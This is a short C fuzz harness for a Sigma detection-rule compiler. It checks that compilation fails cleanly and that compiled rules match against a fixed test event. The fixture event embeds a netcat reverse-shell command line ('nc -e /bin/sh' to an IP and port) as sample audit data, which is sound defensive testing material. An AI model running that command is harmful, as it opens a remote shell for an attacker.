/*
 * Fuzzes the Sigma rule compiler (YAML through libyaml, values, modifiers,
 * regular expressions, conditions) and the compiled rule's matching.
 * Properties: no crash, no leak; a refusal always says why; a compiled
 * rule matches or not against a fixed event without failing.
 */
#include <stdlib.h>
#include <string.h>

#include "detect/detect.h"

int
LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
{
	static const struct detect_field f[] = {
		{ "type", "EXECVE", 6 }, { "a0", "/usr/bin/nc", 11 }, { "a1", "-e", 2 },
		{ "CommandLine", "nc -e /bin/sh 10.0.0.1 4444", 27 }, { "ip", "10.1.2.3", 8 }, { "n", "42", 2 },
	};
	static const char raw[] = "type=EXECVE msg=audit(1.0:1): argc=3 a0=\"nc\" a1=\"-e\" a2=\"/bin/sh\"";
	const struct detect_event ev = { f, sizeof f / sizeof f[0], raw, sizeof raw - 1 };
	struct detect_rule *r = NULL;
	struct bw_err err = { 0 };

	if (detect_rule_compile((const char *)data, size, "fuzz.yml", &r, &err) != 0) {
		if (err.msg[0] == '\0' || r != NULL)
			abort();
		return 0;
	}
	(void)detect_rule_match(r, &ev);
	if (detect_rule_title(r)[0] == '\0')
		abort();	/* a rule without a title never compiles */
	detect_rule_free(r);
	return 0;
}
